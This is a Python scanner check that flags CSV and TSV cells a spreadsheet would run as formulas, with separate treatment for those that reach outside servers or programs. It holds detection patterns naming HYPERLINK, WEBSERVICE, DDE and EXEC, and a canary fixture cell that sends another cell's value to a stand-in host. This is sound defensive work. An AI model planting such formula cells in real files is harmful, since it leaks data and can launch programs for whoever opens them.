"""Cells of a CSV or TSV file that a spreadsheet would run as formulas.

Options: `max-rows`, `max-megabytes` (limits), `ignore-columns` (names of columns that are not looked at).
Numbers, phone numbers, list bullets, handles and rulers are ordinary and not told.
"""

from __future__ import annotations

import re
from collections.abc import Iterator

from shipworthy.check import Canary, Context, check
from shipworthy.checks.datasets._report import Tally, masked, plural, show
from shipworthy.checks.datasets._tables import LIMITS, open_table
from shipworthy.model import Artifact, Finding, Rule, Severity, Skipped

FORMULA = Rule(
    "dataset-formula",
    title="Cells would run as formulas in a spreadsheet",
    severity=Severity.MEDIUM,
    description="Whoever opens the file in a spreadsheet runs what the cells say: formulas can send other cells to a "
    "server, and old ones (DDE) start programs.",
    remedy="Put an apostrophe before such cells when exporting (OWASP, CSV injection), or remove the rows; ask where "
    "they came from.",
    taxonomy=("CWE-1236", "CWE-74"),
    help="csv-injection",
)

_START = re.compile(r"[\s\u00a0]*[=+\-@]")
# A function call, a cell or range, a program (DDE), or arithmetic on them: what follows = + - @ in a formula.
_FORMULA = re.compile(
    r"[\s\u00a0]*(?:"
    r"[=+\-@]{1,3}[\s(+\-\d.*/^]{0,20}(?:[A-Za-z_][A-Za-z0-9_.]{1,60}\(|[A-Za-z]{2,20}\|)"
    r"|=[\s(+\-]{0,5}\$?[A-Za-z]{1,3}\$?\d{1,7}(?![A-Za-z\d])"
    r"|=[\s(+\-]{0,5}\d[\d.]{0,20}\s{0,3}[-+*/^&]\s{0,3}[\d(\"A-Za-z]"
    r"|=\s{0,3}\"[^\"]{0,200}\"\s{0,3}&"
    r")"
)
_REACHES_OUT = re.compile(
    r"\b(?:hyperlink|webservice|image|import(?:xml|data|html|feed|range)|rtd|dde|call|exec|register(?:\.id)?|filterxml)\s{0,3}\("
    r"|[A-Za-z]{2,20}\s{0,3}\|",
    re.I,
)


@check(
    "dataset-formula",
    kinds={"dataset"},
    version=1,
    options={**LIMITS, "ignore-columns": []},
    timeout=180,
    canary=Canary(
        files={"survey.csv": b'name,answer\nA,"=HYPERLINK(""http://a.example/?""&B2,""open"")"\nB,yes\n'},
        rule="dataset-formula",
    ),
)
def scan(artifact: Artifact, context: Context) -> Iterator[Finding | Skipped]:
    """One finding for every column: those that reach out of the sheet apart from the others."""
    table = open_table(artifact, context.options)
    if table.format not in ("csv", "tsv", ""):
        return  # spreadsheets do not open it as cells
    ignored = frozenset(context.options["ignore-columns"])
    tally = Tally()
    for row in table:
        for name, value in zip(row.names, row.values, strict=False):
            if not isinstance(value, str) or value[:1].isalnum() or name in ignored:  # numbers and words first
                continue
            if kind := formula(value):
                tally.add(name, kind, row.number, value)
    for (column, kind), seen in tally.items():
        out = " that reach other programs or servers" if kind == "out" else ""
        yield FORMULA.at(
            artifact,
            f"column {show(column)}: formulas{out} in {plural(seen.count, 'row')}: {seen.where()}",
            evidence=show(masked(seen.example), 100),
            key=f"{column}|{kind}",
            severity=Severity.HIGH if kind == "out" else Severity.MEDIUM,
            row=seen.rows[0],
            field=show(column),
        )
    yield from table.skipped()


def formula(cell: str) -> str:
    """`out` for a formula that reaches other programs or servers, `sheet` for another one, empty for no formula."""
    if not _START.match(cell[:100]):
        return ""
    head = cell[:2000]
    if not _FORMULA.match(head):
        return ""
    return "out" if _REACHES_OUT.search(head) else "sheet"
